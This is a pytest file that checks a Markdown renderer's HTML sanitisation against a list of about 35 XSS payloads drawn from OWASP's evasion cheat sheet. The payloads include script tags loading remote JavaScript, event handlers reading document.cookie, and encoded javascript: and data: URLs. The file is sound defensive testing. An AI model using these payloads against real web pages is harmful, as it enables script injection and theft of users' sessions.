"""Notes are Markdown rendered to HTML that pages include as is: no script, event handler, style or
dangerous URL may survive, whatever the author writes. Vectors from OWASP's XSS Filter Evasion Cheat Sheet."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from research.rendering import html_text, markdown_render

OWASP_VECTORS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "<SVG/ONLOAD=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" AllowScriptAccess=\"always\"></EMBED>",
    # The same ideas in Markdown's own syntax: links and images with dangerous URLs.
    "[click](javascript:alert('XSS'))",
    "[click](JaVaScRiPt:alert('XSS'))",
    "[click](&#106;avascript:alert('XSS'))",
    "[click](javascript&#58;alert('XSS'))",
    "[click](vbscript:msgbox('XSS'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=)",
    "![x](javascript:alert('XSS'))",
    "<javascript:alert('XSS')>",
    "[a](<javascript:alert(1)>)",
    '[a](https://example.com "title\\" onmouseover=\\"alert(1)")',
]

SAFE_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del", "code", "pre",
    "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
}
SAFE_ATTRIBUTES = {"href", "title", "rel", "start", "align"}


class Elements(HTMLParser):
    """Every element and attribute of an HTML fragment, as a browser's parser would see them."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


@pytest.mark.parametrize("vector", OWASP_VECTORS)
def test_no_xss_vector_survives_rendering(vector):
    html = markdown_render(vector)
    for tag, attrs in Elements(html).found:
        assert tag in SAFE_TAGS, (tag, html)
        for name, value in attrs:
            assert name in SAFE_ATTRIBUTES, (name, html)  # no event handler, no style
            if name == "href":
                assert re.match(r"^(https?:|mailto:)", value or "", re.I), (value, html)


def test_markdown_still_renders_what_authors_write():
    html = markdown_render(
        "# Levels\n\n**Support** at *21,900*, ~~22k~~.\n\n- one\n- two\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n[chart](https://example.com/x)\n\n`code`"
    )
    assert "<h1>Levels</h1>" in html
    assert "<strong>Support</strong>" in html and "<em>21,900</em>" in html and "<s>22k</s>" in html
    assert "<li>one</li>" in html and "<td>1</td>" in html and "<code>code</code>" in html
    assert '<a href="https://example.com/x" rel="noopener noreferrer nofollow ugc">chart</a>' in html


def test_raw_html_is_shown_as_text():
    html = markdown_render("<b>bold?</b> <script>alert(1)</script>")
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html_text(html) == "<b>bold?</b> <script>alert(1)</script>"
